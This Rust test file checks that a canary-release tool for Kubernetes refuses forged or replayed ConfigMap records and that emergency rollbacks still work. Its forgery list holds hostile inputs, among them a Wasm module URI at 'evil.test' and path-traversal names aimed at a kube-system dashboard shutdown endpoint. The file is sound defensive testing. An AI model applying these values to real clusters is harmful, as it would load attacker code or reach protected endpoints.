//! Who may write ConfigMaps beside a release, and nothing else, changes nothing that `canary-ctl` writes in another namespace, and prevents no
//! emergency.

use crate::fake_api::FakeApi;
use crate::fixture::{
    INGRESS, another, apply, edit_record, finish, forge_record, promote, record_in, release, run, set_weight,
    shop, weight,
};
use canary_operations::{
    Cluster, Error, LastAlerts, RollbackOptions, StoredRecord, UninstallOptions, WaitOptions, WeightRequest,
    config_objects,
};
use canary_release::preflight::PreflightCheck;
use canary_release::record::{RecordFault, RecordTrust};
use canary_release::rollout::RolloutVerb;
use canary_release::spec::Release;
use serde_json::{Value, json};
use std::collections::{BTreeMap, BTreeSet};
use std::time::Duration;

/// The kinds of which an operation writes objects in other namespaces.
const KINDS: [&str; 5] = ["EnvoyFilter", "WasmPlugin", "DestinationRule", "VirtualService", "Secret"];

/// All objects outside the namespace of the release, without what each write changes.
fn elsewhere(api: &FakeApi) -> BTreeMap<String, Value> {
    let state = api.state();
    let objects = KINDS.iter().flat_map(|kind| state.store.of_kind(kind));
    let outside = objects.filter(|object| object["metadata"]["namespace"] != "shop");
    outside
        .map(|object| {
            let mut object = object.clone();
            let metadata = &object["metadata"];
            let name = format!("{} {}/{}", object["kind"], metadata["namespace"], metadata["name"]);
            object["metadata"] = Value::Null;
            (name, object)
        })
        .collect()
}

/// The shop at 10 %, and the release of another team behind the same gateway.
async fn deployed() -> (FakeApi, Cluster, Release) {
    let (api, release) = (shop(), release(&json!({"stickiness": "session"})));
    let cluster = api.cluster().await;
    let blog = another(&api, "blog");
    apply(&cluster, &blog).await.unwrap();
    apply(&cluster, &release).await.unwrap();
    set_weight(&cluster, &release, "10").await.unwrap();
    (api, cluster, release)
}

fn evil_code() -> Value {
    let field = "/spec/configPatches/0/patch/value/typed_config/config/vm_config/code";
    json!({field: {"remote": {"http_uri": {"uri": "http://evil.test/evil.wasm"}}}})
}

fn reference(kind: &str, namespace: &str, name: &str) -> Value {
    json!({"apiVersion": "networking.istio.io/v1", "kind": kind, "namespace": namespace, "name": name})
}

/// A change that a user who can write the ConfigMap makes in the record.
type Forgery = (&'static str, fn(&mut Value));

/// For each field of the record a hostile value of its kind.
const FORGERIES: [Forgery; 30] = [
    ("format", |record| record["format"] = json!(2)),
    ("state.uid", |record| record["state"]["uid"] = json!("evilevilevil")),
    ("state.generation", |record| record["state"]["generation"] = json!(u64::MAX)),
    ("state.weight", |record| record["state"]["weight"] = json!(10_000)),
    ("state.until", |record| record["state"]["until"] = json!({"atSeconds": 1, "action": "rollback"})),
    ("state.versions", |record| record["state"]["versions"][1]["name"] = json!("evil")),
    ("state.versions.epoch", |record| record["state"]["versions"][1]["epoch"] = json!(77)),
    ("state.gone", |record| record["state"]["gone"] = json!([{"name": "v2", "epoch": 9}])),
    ("state.adopt", |record| record["state"]["adopt"] = json!("evil")),
    ("state.installedAtSeconds", |record| record["state"]["installedAtSeconds"] = json!(1)),
    ("state.rolloutSinceSeconds", |record| record["state"]["rolloutSinceSeconds"] = json!(1)),
    ("initialWeight", |record| record["initialWeight"] = json!(10_000)),
    ("leaving", |record| record["leaving"] = json!(["v2"])),
    ("draining", |record| record["draining"] = json!({"v2": "2020-01-01T00:00:00Z"})),
    ("roleChange", |record| {
        record["roleChange"] =
            json!({"kind": "promoted", "from": "v2", "to": "v1", "by": "ada", "at": "2026-01-01T00:00:00Z"});
    }),
    ("moduleRollout", |record| {
        let object = json!({"apiVersion": "networking.istio.io/v1alpha3", "kind": "EnvoyFilter", "namespace": INGRESS,
            "name": "canary-gateway-config"});
        let field = "/spec/configPatches/0/patch/value/typed_config/config/vm_config/code";
        let to = json!({field: {"remote": {"http_uri": {"uri": "oci://registry.test/filter:1"}}}});
        record["moduleRollout"] = json!([{"object": object, "from": evil_code(), "to": to}]);
    }),
    ("stablePods", |record| record["stablePods"] = json!(9)),
    ("paused", |record| record["paused"] = json!({"by": "evil", "at": "2026-01-01T00:00:00Z"})),
    ("maxStep", |record| record["maxStep"] = json!(10_000)),
    ("onExpiry", |record| record["onExpiry"] = json!("rollback")),
    ("service", |record| record["service"]["name"] = json!("blog")),
    ("service.path", |record| {
        record["service"]["name"] = json!("../../../kube-system/services/dashboard:80/proxy");
    }),
    ("proxies", |record| record["proxies"] = json!([{"namespace": "kube-system", "labels": {}}])),
    ("no proxies", |record| record["proxies"] = json!([])),
    ("train", |record| record["train"] = json!({"name": "autumn", "isInner": true, "namespaces": ["blog"]})),
    ("routes", |record| record["routes"] = json!("inject")),
    ("metadata", |record| record["metadata"] = json!({"labels": {"team": "evil"}})),
    ("objects of others", |record| {
        let objects = record["objects"].as_array_mut().unwrap();
        objects.push(json!(["filter", reference("EnvoyFilter", INGRESS, "canary-gateway-filter")]));
        objects.push(json!(["subsets", reference("DestinationRule", "blog", "web-canary")]));
    }),
    ("no configuration", |record| {
        record["objects"].as_array_mut().unwrap().retain(|object| object[0] != "configuration");
    }),
    ("paths as objects", |record| {
        let objects = record["objects"].as_array_mut().unwrap();
        objects.push(json!(["edits", {"apiVersion": "v1", "kind": "Service", "namespace": "kube-system",
            "name": "dashboard:80/proxy/admin/shutdown?now=1"}]));
    }),
];

/// What an operator does. Whether it is an emergency.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Verb {
    Weight,
    Zero,
    Rollback,
    Promote,
    Apply,
    Finish,
    Pause,
    Resume,
    Rollout,
    Abort,
    Drive,
    Rotate,
    Uninstall,
    Status,
}

const VERBS: [Verb; 14] = [
    Verb::Weight,
    Verb::Zero,
    Verb::Rollback,
    Verb::Promote,
    Verb::Apply,
    Verb::Finish,
    Verb::Pause,
    Verb::Resume,
    Verb::Rollout,
    Verb::Abort,
    Verb::Drive,
    Verb::Rotate,
    Verb::Uninstall,
    Verb::Status,
];

impl Verb {
    const fn is_emergency(self) -> bool {
        matches!(self, Self::Zero | Self::Rollback | Self::Uninstall)
    }

    /// As the command line does it: the record is read, then the operation is called with it.
    async fn call(self, cluster: &Cluster, release: &Release) -> Result<(), Error> {
        let name = &release.name;
        let stored = async || cluster.get_or_recover_record(name, &BTreeSet::new()).await;
        match self {
            Self::Weight => set(cluster, release, stored().await?, "20").await.map(drop),
            Self::Zero => set(cluster, release, stored().await?, "0").await.map(drop),
            Self::Rollback => roll_back(cluster, release, stored().await?).await.map(drop),
            Self::Promote => promote(cluster, release).await.map(drop),
            Self::Apply => apply(cluster, release).await.map(drop),
            Self::Finish => finish(cluster, release).await.map(drop),
            Self::Pause => cluster.pause(name, stored().await?, None, &[]).await.map(drop),
            Self::Resume => cluster.resume(name, stored().await?, &[]).await.map(drop),
            Self::Rollout => {
                let plan = (&release.rollout, "default");
                cluster.start_rollout(name, stored().await?, plan, &[]).await.map(drop)
            }
            Self::Abort => {
                cluster.change_rollout(name, stored().await?, RolloutVerb::Abort, &[]).await.map(drop)
            }
            Self::Drive => {
                let mut driver =
                    canary_operations::RolloutDriver::new(cluster, name.clone(), Duration::from_secs(1));
                driver.reconcile(jiff::Timestamp::now()).await.map(drop)
            }
            Self::Rotate => crate::fixture::rotate(cluster, release).await.map(drop),
            Self::Uninstall => uninstall(cluster, release, stored().await?).await,
            Self::Status => {
                let stored = cluster.show_record(name, &BTreeSet::new()).await?;
                cluster.observe_status(name, &stored).await.map(drop)
            }
        }
    }
}

async fn set(
    cluster: &Cluster,
    release: &Release,
    stored: StoredRecord,
    percent: &str,
) -> Result<StoredRecord, Error> {
    let request =
        WeightRequest { weight: weight(percent), expires_in: None, expected_generation: None, skipped: &[] };
    let checked = cluster.check_weight(&release.name, stored, request).await?;
    Ok(cluster.set_weight(checked).await?.stored)
}

async fn roll_back(
    cluster: &Cluster,
    release: &Release,
    stored: StoredRecord,
) -> Result<StoredRecord, Error> {
    let checked = cluster.check_rollback(&release.name, stored, RollbackOptions::default()).await?;
    let mut waiting = WaitOptions { timeout: Duration::from_secs(3), progress: &mut |_, _| {} };
    Ok(Box::pin(cluster.roll_back(checked, &mut waiting)).await?.stored)
}

async fn uninstall(cluster: &Cluster, release: &Release, stored: StoredRecord) -> Result<(), Error> {
    let waiting = WaitOptions { timeout: Duration::from_secs(3), progress: &mut |_, _| {} };
    let skipped = &[PreflightCheck::MovesUsers];
    let options = UninstallOptions { skipped, waiting, alerts: LastAlerts::default() };
    Box::pin(cluster.uninstall(&release.name, stored, options)).await.map(drop)
}

/// What the other namespaces have after a verb and an honest record.
async fn honest(verb: Verb) -> BTreeMap<String, Value> {
    let (api, cluster, release) = deployed().await;
    // What an honest release cannot do is refused for its own reasons.
    drop(Box::pin(verb.call(&cluster, &release)).await);
    elsewhere(&api)
}

/// Keys are drawn, times and resource names are of now.
fn comparable(objects: &BTreeMap<String, Value>) -> BTreeMap<String, String> {
    let text = |object: &Value| {
        let text = object.to_string();
        ["weight", "evil", "uri", "kube-system"].map(|word| text.matches(word).count().to_string()).join(" ")
            + &text.len().to_string()
    };
    objects.iter().map(|(name, object)| (name.clone(), text(object))).collect()
}

#[test]
fn whatever_a_record_says_other_namespaces_get_what_an_honest_one_gives_or_nothing() {
    run(async {
        for verb in VERBS {
            let honest = comparable(&Box::pin(honest(verb)).await);
            let (mut api, mut cluster, release) = deployed().await;
            let genuine = api.state().store.find("ConfigMap", "shop-canary").unwrap().clone();
            for (field, forge) in FORGERIES {
                if verb.is_emergency() {
                    (api, cluster, _) = deployed().await;
                } else {
                    put_back(&api, &genuine);
                }
                let before = comparable(&elsewhere(&api));
                forge_record(&api, forge);
                let called = Box::pin(verb.call(&cluster, &release)).await;
                let after = comparable(&elsewhere(&api));
                let expected = if verb.is_emergency() { &honest } else { &before };
                assert_eq!(&after, expected, "{verb:?} with a forged {field}: {called:?}");
                let is_expected = match &called {
                    Ok(()) => verb.is_emergency() || verb == Verb::Status,
                    Err(Error::Untrusted { .. }) => !verb.is_emergency() && verb != Verb::Status,
                    Err(_) => false,
                };
                assert!(is_expected, "{verb:?} with a forged {field}: {called:?}");
            }
        }
    });
}

/// Prepared by an attacker: the ConfigMap after it has been changed, and what it is refused for.
type Replay = (&'static str, fn(&FakeApi, &Value), fn(&RecordFault) -> bool);

fn put_back(api: &FakeApi, config_map: &Value) {
    let data = config_map["data"].clone();
    api.state().store.edit("ConfigMap", "shop-canary", |object| object["data"] = data);
}

fn replays() -> [Replay; 5] {
    [
        ("of yesterday", put_back, |fault| matches!(fault, RecordFault::Outdated { .. })),
        (
            "of another release",
            |api, _| {
                let blog = api.state().store.find("ConfigMap", "blog-canary").unwrap().clone();
                put_back(api, &blog);
            },
            |fault| matches!(fault, RecordFault::Malformed(_) | RecordFault::ForeignSeal { .. }),
        ),
        (
            "in another object",
            |api, _| {
                let mut copy = api.state().store.find("ConfigMap", "shop-canary").unwrap().clone();
                api.state().store.remove("ConfigMap", "shop-canary");
                copy["metadata"] = json!({"name": "shop-canary", "namespace": "shop"});
                api.state().create(&copy);
            },
            |fault| matches!(fault, RecordFault::ForeignSeal { .. }),
        ),
        (
            "without seals",
            |api, _| {
                api.state().store.edit("ConfigMap", "shop-canary", |object| {
                    object["data"].as_object_mut().unwrap().remove("seals.json");
                });
            },
            |fault| matches!(fault, RecordFault::Unsealed { .. }),
        ),
        (
            "whose keys were deleted",
            |api, _| api.state().store.remove("Secret", "canary-ctl-record-keys"),
            |fault| matches!(fault, RecordFault::NoKeys { .. }),
        ),
    ]
}

#[test]
fn a_genuine_record_of_another_time_place_or_key_is_refused() {
    run(async {
        for (what, replay, is_fault) in replays() {
            let (api, cluster, release) = deployed().await;
            let yesterday = api.state().store.find("ConfigMap", "shop-canary").unwrap().clone();
            set_weight(&cluster, &release, "20").await.unwrap();
            replay(&api, &yesterday);
            let before = comparable(&elsewhere(&api));
            let refused = set_weight(&cluster, &release, "30").await.unwrap_err();
            assert_eq!(comparable(&elsewhere(&api)), before, "a record {what}");
            let Error::Untrusted { fault, .. } = refused else { panic!("a record {what}: {refused:?}") };
            assert!(is_fault(&fault), "a record {what}: {fault:?}");

            let stored = cluster.get_or_recover_record(&release.name, &BTreeSet::new()).await.unwrap();
            assert_eq!(stored.trust(), &RecordTrust::Refused(fault), "a record {what}");
            assert_eq!(stored.record.state.weight, weight("20"), "read back from the objects");
            cluster.rebuild_record(&release.name, stored).await.unwrap();
            set_weight(&cluster, &release, "30").await.unwrap();
        }
    });
}

#[test]
fn a_promotion_is_rolled_back_although_the_record_was_forged() {
    run(async {
        let (api, cluster, release) = deployed().await;
        promote(&cluster, &release).await.unwrap();
        forge_record(&api, |record| record["paused"] = json!({"by": "evil", "at": "2026-01-01T00:00:00Z"}));
        let stored = cluster.get_or_recover_record(&release.name, &BTreeSet::new()).await.unwrap();
        let after = roll_back(&cluster, &release, stored).await.unwrap().record;
        let stable = after.state.version_of(assignment::contract::Role::Stable);
        assert_eq!(stable, Some("v1"), "{:?}", after.state.versions);
    });
}

#[test]
fn an_emergency_takes_effect_while_another_client_writes_the_record_all_the_time() {
    run(async {
        for verb in [Verb::Zero, Verb::Rollback, Verb::Uninstall] {
            let (api, cluster, release) = deployed().await;
            api.before_write(|state, line| {
                if line.contains("configmaps/shop-canary") {
                    state.store.edit_as("attacker", "ConfigMap", "shop-canary", |object| {
                        let count = object["metadata"]["annotations"]["count"].as_str().unwrap_or("").len();
                        object["metadata"]["annotations"]["count"] = json!("x".repeat(count + 1));
                    });
                }
            });
            Box::pin(verb.call(&cluster, &release)).await.unwrap();
            let state = api.state();
            let configs = state.store.of_kind("EnvoyFilter");
            let configs =
                configs.filter_map(|object| canary_release::delivery::deployed_config(object).unwrap());
            for config in configs {
                let entry = config.releases.get("shop/shop");
                let is_stopped = match verb {
                    Verb::Zero => entry.is_some_and(|entry| entry.weight == weight("0")),
                    Verb::Rollback => entry.is_some_and(|entry| entry.versions.len() == 1),
                    _ => entry.is_none(),
                };
                assert!(is_stopped, "{verb:?}: {entry:?}");
            }
        }
    });
}

/// The configuration of sidecars that have left the file, before it was pruned.
fn leave_a_configuration_in_shop(api: &FakeApi) {
    let mut left = api.state().store.find("EnvoyFilter", "canary-gateway-config").unwrap().clone();
    left["metadata"]["namespace"] = json!("shop");
    left["metadata"].as_object_mut().unwrap().remove("uid");
    left["metadata"].as_object_mut().unwrap().remove("resourceVersion");
    api.state().store.create_as("canary-ctl", &left);
    edit_record(api, |record| {
        let mut object = reference("EnvoyFilter", "shop", "canary-gateway-config");
        object["apiVersion"] = json!("networking.istio.io/v1alpha3");
        record["objects"].as_array_mut().unwrap().push(json!(["configuration", object]));
    });
}

#[test]
fn an_emergency_keeps_the_history_where_an_apply_was_killed_before_it_had_pruned() {
    run(async {
        let (api, cluster, release) = deployed().await;
        leave_a_configuration_in_shop(&api);
        let stored = cluster.get_record(&release.name).await.unwrap();
        let before = stored.record.history.entries().len();
        let mut writes = 0;
        api.before_write(move |state, line| {
            if line.contains("configmaps/shop-canary") && writes == 0 {
                writes += 1;
                state.store.edit_as("neighbour", "ConfigMap", "shop-canary", |object| {
                    object["metadata"]["annotations"]["note"] = json!("x");
                });
            }
        });
        let after = roll_back(&cluster, &release, stored).await.unwrap().record;
        assert!(after.history.entries().len() > before, "{:?}", after.history);
    });
}

#[test]
fn an_emergency_takes_effect_where_the_record_cannot_be_written() {
    run(async {
        let (api, cluster, release) = deployed().await;
        api.state().store.edit("ConfigMap", "shop-canary", |object| {
            object["data"]["release.json"] = json!("no record");
        });
        api.deny("configmaps/shop-canary", "a policy of an attacker");
        let stored = cluster.get_or_recover_record(&release.name, &BTreeSet::new()).await.unwrap();
        let after = set(&cluster, &release, stored, "0").await.unwrap();
        let reason = after.unsaved().unwrap_or_default();
        assert!(reason.contains("a policy of an attacker"), "{reason}");
        assert_eq!(
            cluster.get_or_recover_record(&release.name, &BTreeSet::new()).await.unwrap().record.state.weight,
            weight("0")
        );
    });
}

#[test]
fn a_record_of_an_earlier_version_is_accepted_with_its_history_and_its_pause() {
    run(async {
        let (api, cluster, release) = deployed().await;
        edit_record(&api, |record| {
            record["paused"] = json!({"by": "admin", "at": "2026-01-01T00:00:00Z", "reason": "the p99"});
        });
        api.state().store.edit("ConfigMap", "shop-canary", |object| {
            object["data"].as_object_mut().unwrap().remove("seals.json");
        });
        api.state().store.remove("Secret", "canary-ctl-record-keys");
        let refused = apply(&cluster, &release).await.unwrap_err();
        assert!(matches!(refused, Error::Untrusted { .. }), "{refused:?}");
        let before = elsewhere(&api);
        let accepted = cluster.accept_record(&release).await.unwrap();
        let accepted = cluster.rebuild_record(&release.name, accepted).await.unwrap();
        assert_eq!(
            accepted.record.paused.as_ref().and_then(|pause| pause.reason.clone()),
            Some("the p99".to_owned())
        );
        assert!(accepted.record.history.entries().len() > 2, "{:?}", accepted.record.history);
        let mut after = elsewhere(&api);
        after.retain(|name, _| !name.contains("record-keys"));
        assert_eq!(after, before, "no proxy sees it");
        set_weight(&cluster, &release, "20").await.unwrap();
    });
}

#[test]
fn an_accepted_record_brings_neither_modules_nor_objects_nor_a_rollout() {
    run(async {
        for (field, forge) in FORGERIES {
            let (api, cluster, release) = deployed().await;
            let honest = record_in(api.state().store.find("ConfigMap", "shop-canary").unwrap());
            forge_record(&api, forge);
            let Ok(accepted) = cluster.accept_record(&release).await else { continue };
            let accepted = serde_json::to_value(&accepted.record).unwrap();
            for kept in ["objects", "moduleRollout", "rollout", "proxies", "service", "train"] {
                assert_eq!(accepted[kept], honest[kept], "{kept} with a forged {field}");
            }
            for kept in ["uid", "weight", "versions", "generation"] {
                assert_eq!(accepted["state"][kept], honest["state"][kept], "{kept} with a forged {field}");
            }
        }
    });
}

#[test]
fn another_namespace_that_claims_the_release_is_not_believed() {
    run(async {
        let (api, cluster, release) = deployed().await;
        let mut copy = api.state().store.find("EnvoyFilter", "canary-gateway-config").unwrap().clone();
        copy["metadata"] = json!({"name": "canary-gateway-config", "namespace": "evil"});
        let text = copy.to_string().replace("\\\"weight\\\":1000", "\\\"weight\\\":10000");
        assert_ne!(text, copy.to_string(), "the copy has another weight");
        api.state().create(&serde_json::from_str(&text).unwrap());
        api.state().store.remove("ConfigMap", "shop-canary");
        let refused = cluster.get_or_recover_record(&release.name, &BTreeSet::new()).await.unwrap_err();
        assert!(matches!(refused, Error::Recover(_)), "{refused:?}");
        assert!(refused.to_string().contains("`evil`"), "{refused}");
        let of_file = config_objects(&release).unwrap();
        let stored = cluster.get_or_recover_record(&release.name, &of_file).await.unwrap();
        assert_eq!(stored.record.state.weight, weight("10"), "the file names the gateway's namespace alone");
        assert!(
            stored.record.objects.iter().all(|(_, object)| object.namespace != "evil"),
            "{:?}",
            stored.record.objects
        );
    });
}

#[test]
fn keys_of_records_rotate_and_what_a_retired_key_has_sealed_is_refused() {
    run(async {
        let (api, cluster, release) = deployed().await;
        let old = api.state().store.find("ConfigMap", "shop-canary").unwrap().clone();
        crate::fixture::rotate(&cluster, &release).await.unwrap();
        let blog = "shop/blog".parse().unwrap();
        cluster.get_record(&release.name).await.unwrap();
        cluster.get_record(&blog).await.unwrap();
        let seals = |name: &str| {
            api.state().store.find("ConfigMap", name).unwrap()["data"]["seals.json"]
                .as_str()
                .unwrap()
                .to_owned()
        };
        for name in ["shop-canary", "blog-canary"] {
            assert!(seals(name).contains("\"r2\""), "{name}: {}", seals(name));
        }
        let waiting = WaitOptions { timeout: Duration::from_mins(1), progress: &mut |_, _| {} };
        let skipped = &[PreflightCheck::MovesUsers, PreflightCheck::NoReadyPods];
        let options = canary_operations::RotateOptions { waiting, skipped };
        Box::pin(cluster.retire_keys(&release, options)).await.unwrap();
        cluster.get_record(&blog).await.unwrap();
        put_back(&api, &old);
        let refused = cluster.get_record(&release.name).await.unwrap_err();
        assert!(
            matches!(refused, Error::Untrusted { fault: RecordFault::ForeignSeal { .. }, .. }),
            "{refused:?}"
        );
    });
}

/// The keys of the release's own namespace seal a record that names its own sidecars alone.
fn seal_in_shop(api: &FakeApi) {
    let mut keys = api.state().store.find("Secret", "canary-ctl-record-keys").unwrap().clone();
    keys["metadata"] = json!({"name": "canary-ctl-record-keys", "namespace": "shop"});
    api.state().create(&keys);
    forge_record(api, |record| {
        record["proxies"] = json!([{"namespace": "shop", "labels": {"app": "shop"}}]);
        record["objects"].as_array_mut().unwrap().retain(|object| object[1]["namespace"] == "shop");
        record["state"]["weight"] = json!(10_000);
    });
    crate::fixture::seal_record(api);
}

#[test]
fn a_record_that_the_gateways_namespace_has_not_sealed_decides_nothing_there() {
    run(async {
        let (api, cluster, release) = deployed().await;
        let before = comparable(&elsewhere(&api));
        seal_in_shop(&api);
        let refused = apply(&cluster, &release).await.unwrap_err();
        let is_unsealed = matches!(&refused, Error::Untrusted { fault: RecordFault::Unsealed { namespace }, .. } if namespace == INGRESS);
        assert!(is_unsealed, "{refused:?}");
        assert_eq!(comparable(&elsewhere(&api)), before);
        let stored =
            cluster.get_or_recover_record(&release.name, &config_objects(&release).unwrap()).await.unwrap();
        assert_eq!(stored.record.state.weight, weight("10"), "what the gateway's namespace says");
        let after = roll_back(&cluster, &release, stored).await.unwrap();
        assert_eq!(after.record.state.versions.len(), 1, "{:?}", after.record.state);
        assert_ne!(comparable(&elsewhere(&api)), before, "the gateway has the rollback");
    });
}

#[test]
fn an_emergency_takes_effect_where_the_keys_of_records_are_no_keys() {
    run(async {
        let (api, cluster, release) = deployed().await;
        api.state().store.edit("Secret", "canary-ctl-record-keys", |secret| {
            secret["data"]["record-keys.json"] = json!("bm8ga2V5cw==");
        });
        let refused = set_weight(&cluster, &release, "20").await.unwrap_err();
        assert!(matches!(refused, Error::NoKeys { .. }), "{refused:?}");
        let stored = cluster.get_or_recover_record(&release.name, &BTreeSet::new()).await.unwrap();
        let after = set(&cluster, &release, stored, "0").await.unwrap();
        assert!(after.unsaved().is_some(), "there are no keys to seal it with");
        let again = cluster.get_or_recover_record(&release.name, &BTreeSet::new()).await.unwrap();
        assert_eq!(again.record.state.weight, weight("0"));
    });
}
